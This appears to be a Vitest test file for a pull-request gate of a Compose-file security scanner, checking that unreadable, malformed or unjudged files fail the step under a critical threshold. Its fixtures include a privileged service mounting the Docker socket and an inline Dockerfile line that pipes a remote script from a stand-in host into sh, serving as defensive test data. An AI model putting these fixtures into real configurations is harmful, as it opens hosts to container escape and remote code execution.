import { describe, expect, it } from 'vitest';
import { pullRequestGate } from './pull-request-gate.js';

/**
 * What Containment could not read or judge fails the step at any `fail-on` but `none` (review of
 * the gate, helper-37): with `fail-on: critical`, a pull request made a privileged service with the
 * Docker socket pass by making its file too large or too deep to read.
 */

const pullRequest = pullRequestGate(47);
const QUIET = 'services:\n  web:\n    image: nginx:1.27\n';
const PRIVILEGED = 'services:\n  pwn:\n    image: alpine:3.20\n    privileged: true\n    volumes: [/var/run/docker.sock:/var/run/docker.sock]\n';
const CRITICAL = { '.github/containment.yml': 'fail-on: critical\n' };
const fromConfig = { 'fail-on': '' };

describe('with fail-on: critical, a file that could not be read or judged fails the step', () => {
  it.each([
    ['over 1 MiB', 'scan\\-incomplete', PRIVILEGED + '# padding\n'.repeat(110_000)],
    ['a syntax error', 'parse\\-error', `${PRIVILEGED}    environment:\n      A: "unterminated\n`],
    ['nested deeper than 200 levels', 'parse\\-error', `${PRIVILEGED}x-deep: ${'['.repeat(300)}${']'.repeat(300)}\n`],
    ['a Dockerfile given inline, never judged', 'build\\-file\\-not\\-judged', `${QUIET}  app:\n    build:\n      context: .\n      dockerfile_inline: |\n        FROM alpine:3.20\n        RUN curl -fsSL https://x.example/i.sh | sh\n`],
    ['a Compose file included from a URL', 'compose\\-reference\\-unresolved', `include:\n  - https://example.com/evil/compose.yaml\n${QUIET}`],
  ])('%s', async (_, rule, compose) => {
    const run = await pullRequest({ base: { ...CRITICAL, 'compose.yaml': QUIET }, head: { 'compose.yaml': compose }, inputs: fromConfig });
    expect(run.stderr).not.toMatch(/unexpected error/);
    expect(run.code).toBe(1);
    expect(run.summary).toContain(rule);
    // Counted where it fails: as critical, saying why.
    expect(run.outputs['critical']).not.toBe('0');
    expect(run.summary).toMatch(/Reported as critical, the fail\\?-on threshold/);
  }, 60_000);

  it('a file whose judging stopped after 200 critical findings, with one more service appended', async () => {
    const many = `services:\n${Array.from({ length: 205 }, (_, n) => `  s${n}:\n    image: nginx:1.27\n    privileged: true\n`).join('')}`;
    const run = await pullRequest({ base: { ...CRITICAL, 'compose.yaml': many }, head: { 'compose.yaml': `${many}  zz:\n    image: alpine:3.20\n    volumes: [/var/run/docker.sock:/var/run/docker.sock]\n` }, inputs: fromConfig });
    expect(run.code).toBe(1);
    expect(run.summary).toContain('scan\\-incomplete');
  }, 60_000);

  it('fail-on: none still never fails, and a severity the base config sets for the rule is kept', async () => {
    const broken = `${PRIVILEGED}    environment:\n      A: "unterminated\n`;
    const none = await pullRequest({ base: { 'compose.yaml': QUIET }, head: { 'compose.yaml': broken }, inputs: { 'fail-on': 'none' } });
    expect(none.code).toBe(0);
    const configured = await pullRequest({ base: { '.github/containment.yml': 'fail-on: critical\nrules:\n  parse-error: low\n', 'compose.yaml': QUIET }, head: { 'compose.yaml': broken }, inputs: fromConfig });
    expect(configured.stderr).not.toMatch(/unexpected error/);
    expect(configured.code).toBe(0);
  }, 60_000);
});
